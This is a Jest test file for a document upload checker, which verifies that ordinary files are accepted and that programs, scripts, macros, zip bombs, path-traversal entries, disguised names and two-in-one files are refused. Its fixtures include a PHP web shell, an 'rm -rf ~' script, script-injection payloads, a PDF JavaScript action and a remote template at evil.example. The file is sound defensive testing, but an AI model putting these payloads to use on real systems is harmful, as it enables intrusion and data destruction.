import { describe, expect, it } from '@jest/globals';
import { writeDocx, writePdf } from './index.js';
import {
  excelParts,
  jpeg,
  macroParts,
  openDocumentParts,
  pdf,
  png,
  slideParts,
  wordParts,
  type ZipPart,
  zip,
} from './testing.js';
import { checkUpload } from './upload.check.js';
import { uploadRules } from './upload.rules.js';

const words = Buffer.from('Minutes of the meeting: naïve café, 42 °C.\n');
const word = (...more: ZipPart[]) => zip([...wordParts, ...more]);

const refused = async (bytes: Buffer, name: string) => {
  try {
    const taken = await checkUpload(bytes, name);
    return `taken as ${taken.mediaType}`;
  } catch (error) {
    const { code, details } = error as { code: string; details: Record<string, string> };
    expect(code).toBe('BAD_INPUT');
    expect(details.fix?.length).toBeGreaterThan(10);
    return `${details.field} ${details.problem}`;
  }
};

describe('an upload', () => {
  it.each([
    ['contract.pdf', pdf, 'application/pdf'],
    ['Heads of terms.DOCX', word(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
    ['budget.xlsx', zip(excelParts), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    ['talk.pptx', zip(slideParts), 'application/vnd.openxmlformats-officedocument.presentationml.presentation'],
    ['minutes.odt', zip(openDocumentParts), 'application/vnd.oasis.opendocument.text'],
    ['logo.png', png, 'image/png'],
    ['photo.jpeg', jpeg, 'image/jpeg'],
    ['minutes.txt', words, 'text/plain'],
    ['list.csv', Buffer.from('\ufeffname,days\r\nÅsa,3\r\n'), 'text/csv'],
  ])('named %s is taken for what it is', async (name, bytes, mediaType) => {
    expect(await checkUpload(bytes, name)).toEqual({ name: name.replace('DOCX', 'docx'), mediaType });
  });

  it('that the product itself has written is taken', async () => {
    const document = { title: 'Heads of terms', blocks: [{ kind: 'paragraph', text: 'Both sides agree.' } as const] };
    expect((await checkUpload(await writePdf(document), 'terms.pdf')).mediaType).toBe('application/pdf');
    expect((await checkUpload(await writeDocx(document), 'terms.docx')).mediaType).toMatch(/wordprocessingml/);
  });

  it('that is empty, too large or nameless is refused', async () => {
    expect(await refused(Buffer.alloc(0), 'a.pdf')).toBe('file is empty.');
    expect(await refused(Buffer.concat([pdf, Buffer.alloc(uploadRules.maxBytes)]), 'a.pdf')).toMatch(
      /^file is larger than/,
    );
    expect(await refused(pdf, '\u202e/..')).toMatch(/^name has no letters/);
  });
});

const program = Buffer.from(
  'MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0 This program cannot be run in DOS mode.',
  'latin1',
);
const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(60)]);
const page = Buffer.from('<!doctype html><title>Sign in</title><script>alert(1)</script>');
const drawing = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');

describe('what could run', () => {
  it.each([
    'tool.exe',
    'tool.bat',
    'page.html',
    'drawing.svg',
    'macros.docm',
    'old.doc',
    'archive.zip',
    'script.js',
    'nothing',
  ])('is refused by its ending: %s', async (name) => {
    expect(await refused(program, name)).toMatch(/^name has an ending of a kind that is not taken/);
  });

  it.each([
    ['a Windows program', program],
    ['a Linux program', elf],
    ['a page', page],
    ['a drawing', drawing],
    ['a script', Buffer.from('#!/bin/sh\nrm -rf ~\n')],
    ['a PHP page', Buffer.from('<?php system($_GET["c"]); ?>')],
    ['an archive', zip([{ name: 'a.txt', content: 'a' }])],
    ['a RAR archive', Buffer.from('Rar!\x1a\x07\x01\x00aaaaaaaaaa', 'latin1')],
  ])('is refused under every other name: %s', async (_, bytes) => {
    for (const { extension } of uploadRules.kinds) {
      expect(await refused(bytes, `contract.${extension}`)).toMatch(/^file (?:is named as|holds)/);
    }
    // A character that turns the name around hides nothing: exe is what is left at its end.
    expect(await refused(bytes, 'contract\u202efdp.exe')).toMatch(/^name has an ending/);
  });

  it('is refused in an office file: macros, embedded programs, remote templates', async () => {
    const holds = 'file holds macros or other programs.';
    expect(await refused(zip(macroParts), 'terms.docx')).toMatch(
      /^file is named as Word, but its content is of another kind/,
    );
    expect(await refused(word({ name: 'word/vbaProject.bin', content: 'Sub' }), 'terms.docx')).toBe(holds);
    expect(await refused(word({ name: 'word/activeX/activeX1.bin', content: 'x' }), 'terms.docx')).toBe(holds);
    expect(await refused(word({ name: 'word/embeddings/oleObject1.bin', content: 'x' }), 'terms.docx')).toBe(holds);
    expect(await refused(word({ name: 'word/media/setup.exe', content: 'MZ' }), 'terms.docx')).toBe(holds);
    expect(await refused(zip([...excelParts, { name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }]), 'a.xlsx')).toBe(
      holds,
    );
    expect(
      await refused(zip([...openDocumentParts, { name: 'Basic/Standard/Module1.xml', content: '<x/>' }]), 'a.odt'),
    ).toBe(holds);
    const template = `<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`;
    expect(await refused(word({ name: 'word/_rels/settings.xml.rels', content: template }), 'terms.docx')).toBe(
      'file loads a template from elsewhere.',
    );
  });

  it('is refused in a PDF, an image or a text', async () => {
    const scripted = Buffer.from(
      pdf.toString('latin1').replace('/Pages 2 0 R', '/OpenAction<</S/JavaScript/JS(app.alert(1))>>'),
      'latin1',
    );
    expect(await refused(scripted, 'a.pdf')).toMatch(/^file holds scripts/);
    expect(await refused(pdf.subarray(0, 60), 'a.pdf')).toMatch(/^file is not complete/);
    expect(await refused(Buffer.concat([png, page]), 'a.png')).toMatch(/^file is an image with a page or a script/);
    expect(await refused(Buffer.from('name\n<script>alert(1)</script>\n'), 'a.csv')).toMatch(
      /^file holds a page or a script/,
    );
    expect(await refused(Buffer.from('caf\xe9', 'latin1'), 'a.txt')).toMatch(/^file is not a text in UTF-8/);
    expect(await refused(Buffer.from('a\0b'), 'a.txt')).toMatch(/^file is named as a text, but/);
  });
});

describe('an archive that is not what it says', () => {
  it('is refused where it unpacks to far too much', async () => {
    const bomb = word({ name: 'word/media/big.xml', content: Buffer.alloc(60 * 1024 * 1024) });
    expect(bomb.length).toBeLessThan(100_000);
    expect(await refused(bomb, 'a.docx')).toMatch(/^file unpacks to far more/);
    const tight = word({ name: 'word/media/tight.xml', content: Buffer.alloc(2 * 1024 * 1024) });
    expect(await refused(tight, 'a.docx')).toMatch(/^file unpacks to far more/);
    const many = Array.from({ length: 2_001 }, (_, at) => ({ name: `word/${at}.xml`, content: '' }));
    expect(await refused(zip([...wordParts, ...many]), 'a.docx')).toMatch(/^file unpacks to far more/);
  });

  it('is refused where its directory lies, its parts climb, or it is locked or cut off', async () => {
    const damaged = 'file is damaged and cannot be opened.';
    const liar = word({ name: 'word/media/big.xml', content: Buffer.alloc(3 * 1024 * 1024), said: 900 });
    expect(await refused(liar, 'a.docx')).toBe(damaged);
    expect(await refused(word({ name: '../../etc/passwd', content: 'x' }), 'a.docx')).toBe(damaged);
    expect(await refused(word({ name: 'word/x.xml', content: 'x', encrypted: true }), 'a.docx')).toMatch(
      /^file is locked/,
    );
    expect(await refused(word().subarray(0, -40), 'a.docx')).toMatch(/^file is two kinds|^file is damaged/);
  });

  it('is refused where it is two files in one', async () => {
    const two = 'file is two kinds of file in one.';
    expect(await refused(Buffer.concat([pdf, zip([{ name: 'Main.class', content: 'x' }])]), 'a.pdf')).toBe(two);
    expect(await refused(Buffer.concat([png, zip([{ name: 'Main.class', content: 'x' }])]), 'a.png')).toBe(two);
    expect(await refused(Buffer.concat([png, pdf]), 'a.png')).toBe(two);
    expect(await refused(zip(wordParts, 'a comment'), 'a.docx')).toBe(two);
    expect(await refused(Buffer.concat([word(), page]), 'a.docx')).toBe(two);
  });
});
